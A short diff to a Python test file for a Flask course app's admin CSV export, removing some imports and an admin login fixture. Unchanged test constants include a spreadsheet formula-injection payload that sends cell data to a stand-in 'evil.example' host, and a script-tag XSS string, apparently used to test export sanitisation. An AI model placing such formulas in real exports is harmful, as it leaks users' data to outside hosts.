@@ -8,11 +8,8 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
-import pytest
 from conftest import csrf_from
-from flask import Flask
 from flask.testing import FlaskClient
-from test_admin import EMAIL, PASSWORD, add_admin, post_login
 
 from course.admin import export as export_module
 from course.csv_io import EXPORT_COLUMNS
@@ -24,13 +21,6 @@ T0 = datetime(2025, 3, 1, 9, 30, 15, 123456, tzinfo=UTC)
 FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'
 HTML = '<script>alert("x")</script> & <b>Bo</b>'
 
-
-@pytest.fixture
-def admin(app: Flask) -> FlaskClient:
-    add_admin(app)
-    client = app.test_client()
-    assert post_login(client, EMAIL, PASSWORD).status_code == 302
-    return client
 
 
 def add(email: str, **fields: object) -> Subscriber:
